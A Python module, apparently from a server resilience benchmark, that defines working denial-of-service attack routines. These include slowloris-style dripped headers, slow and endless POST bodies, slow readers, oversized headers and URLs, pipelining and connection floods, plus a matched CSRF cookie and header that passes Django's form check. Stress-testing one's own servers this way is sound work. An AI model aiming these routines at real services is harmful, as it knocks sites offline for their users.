"""The attacks: which bytes each connection sends, and when. Each is one function in `KINDS`.

An attack returns when it has nothing more to send; the caller then keeps the connection open until
the time is over. The server's answers are read meanwhile, unless the attack must not read.
"""

from __future__ import annotations

import asyncio
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass

from bench.attack_line import Line

_BOUNDARY = "ledger-attack"
_FORM = "application/x-www-form-urlencoded"
_MULTIPART = f"multipart/form-data; boundary={_BOUNDARY}"
# Django reads a form to the end only where this passes; 32 letters that look like a token.
_TOKEN = "a" * 32
_PIECE = b"x" * 65_536
_A_KILOBYTE = "y" * 1_000


@dataclass(frozen=True, slots=True)
class Plan:
    """What all connections of an attack have in common."""

    page: str = "/c/ukraine/"
    form: str = "/method/report/"
    # The method for bodies; a GET may have one too.
    verb: str = "POST"
    # Seconds between two bytes of a slow one.
    pace: float = 1.0
    # The length that a slow body announces, and what a big one sends.
    promised: int = 50_000
    bytes: int = 300_000_000


@dataclass(frozen=True, slots=True)
class Kind:
    """An attack: what it does, and its usual number of connections."""

    about: str
    act: Callable[[Line, Plan], Awaitable[None]]
    connections: int
    reads: bool = True
    # Bytes that the kernel buffers for us; few for an attack that does not read.
    receive_buffer: int | None = None
    # It ends with the first answer, though the server would keep the connection.
    quits: bool = False
    # Each ended connection is followed by another.
    repeats: bool = False


def head(line: Line, verb: str, path: str, *more: str) -> bytes:
    """A request's head, without the empty line that ends it."""
    lines = [f"{verb} {path} HTTP/1.1", f"Host: {line.target.host}", "User-Agent: ledger-attack"]
    return ("\r\n".join([*lines, *more]) + "\r\n").encode()


def form_head(line: Line, plan: Plan, kind: str, *more: str) -> bytes:
    """Return the whole head of a form that a browser could have sent."""
    return (
        head(
            line,
            plan.verb,
            plan.form,
            f"Content-Type: {kind}",
            f"Cookie: csrftoken={_TOKEN}",
            f"X-CSRFToken: {_TOKEN}",
            *more,
        )
        + b"\r\n"
    )


async def slow_bodies(line: Line, plan: Plan) -> None:
    """Promise a body, send one byte of it, and one more each `pace` seconds."""
    if await line.send(form_head(line, plan, _FORM, f"Content-Length: {plan.promised}") + b"t"):
        await _drip(line, plan, (b"=" for _ in range(plan.promised - 1)))


async def slow_chunked(line: Line, plan: Plan) -> None:
    """The same without a length: chunks of one byte."""
    if await line.send(form_head(line, plan, _FORM, "Transfer-Encoding: chunked")):
        await _drip(line, plan, (b"1\r\nt\r\n" for _ in range(plan.promised)))


async def half_headers(line: Line, plan: Plan) -> None:
    """Send half a request and never the other half."""
    await line.send(head(line, "GET", plan.page, "Accept: text/html")[:-3])


async def drip_headers(line: Line, plan: Plan) -> None:
    """A head that grows by one byte each `pace` seconds and never ends."""
    whole = head(line, "GET", plan.page) + b"X-Slow: " + b"y" * 4_000
    if await line.send(whole[:1]):
        await _drip(line, plan, (whole[at : at + 1] for at in range(1, len(whole))))


async def slow_readers(line: Line, plan: Plan) -> None:
    """Ask for a page; the caller reads it byte by byte."""
    await line.send(head(line, "GET", plan.page, "Accept-Encoding: identity") + b"\r\n")


async def big_post(line: Line, plan: Plan) -> None:
    """A multipart form with one long field, as fast as it is taken, until an answer comes."""
    opening = (
        f'--{_BOUNDARY}\r\nContent-Disposition: form-data; name="text"; filename="a.txt"\r\n'
        "Content-Type: text/plain\r\n\r\n"
    ).encode()
    length = f"Content-Length: {plan.bytes}"
    if await line.send(form_head(line, plan, _MULTIPART, length) + opening):
        await _pour(line, plan.bytes - len(opening))


async def chunked_big_post(line: Line, plan: Plan) -> None:
    """A form without a length and without an end, until an answer comes."""
    if await line.send(form_head(line, plan, _FORM, "Transfer-Encoding: chunked")):
        chunk = f"{len(_PIECE):x}\r\n".encode() + _PIECE + b"\r\n"
        while not line.answered.is_set() and line.sent < plan.bytes and await line.send(chunk):
            await asyncio.sleep(0)


async def many_headers(line: Line, plan: Plan) -> None:
    """A thousand headers of a hundred letters, then the end of the head."""
    fields = [f"X-Many-{number}: {_A_KILOBYTE[:100]}" for number in range(1_000)]
    await line.send(head(line, "GET", plan.page, *fields) + b"\r\n")


async def long_url(line: Line, plan: Plan) -> None:
    """An address of a hundred thousand letters."""
    await line.send(head(line, "GET", f"{plan.page}?q={_A_KILOBYTE * 100}") + b"\r\n")


async def pipelined(line: Line, plan: Plan) -> None:
    """A thousand requests on one connection, whose answers nobody reads."""
    await line.send((head(line, "GET", plan.page) + b"\r\n") * 1_000)


async def idle_keepalive(line: Line, plan: Plan) -> None:
    """One small answered request, then silence."""
    await line.send(head(line, "GET", "/healthz") + b"\r\n")


async def flood(line: Line, plan: Plan) -> None:
    """A normal reader; there are many, and each one served is followed by another."""
    await line.send(head(line, "GET", plan.page, "Connection: close") + b"\r\n")


KINDS = {
    "slow-bodies": Kind("bodies that come byte by byte", slow_bodies, 40),
    "slow-chunked": Kind("bodies in chunks of one byte", slow_chunked, 40),
    "half-headers": Kind("half a request each", half_headers, 200),
    "drip-headers": Kind("headers that come byte by byte", drip_headers, 200),
    "slow-readers": Kind(
        "answers read byte by byte", slow_readers, 40, reads=False, receive_buffer=2_048
    ),
    "big-post": Kind("a form of 300 MB", big_post, 1, quits=True),
    "chunked-big-post": Kind("a form without an end", chunked_big_post, 1, quits=True),
    "many-headers": Kind("a thousand headers", many_headers, 10, quits=True),
    "long-url": Kind("an address of 100,000 letters", long_url, 10, quits=True),
    "pipelined": Kind(
        "a thousand requests, no answer read", pipelined, 8, reads=False, receive_buffer=2_048
    ),
    "idle-keepalive": Kind("connections that ask once and stay", idle_keepalive, 400),
    "flood": Kind("readers at the same time", flood, 64, repeats=True),
}


async def _drip(line: Line, plan: Plan, bits: Iterator[bytes]) -> None:
    for bit in bits:
        try:
            async with asyncio.timeout(plan.pace):
                await line.ended.wait()
        except TimeoutError:
            pass
        if line.answered.is_set() or not await line.send(bit):
            return


async def _pour(line: Line, amount: int) -> None:
    while amount > 0 and not line.answered.is_set():
        if not await line.send(_PIECE[:amount]):
            return
        amount -= len(_PIECE)
        await asyncio.sleep(0)
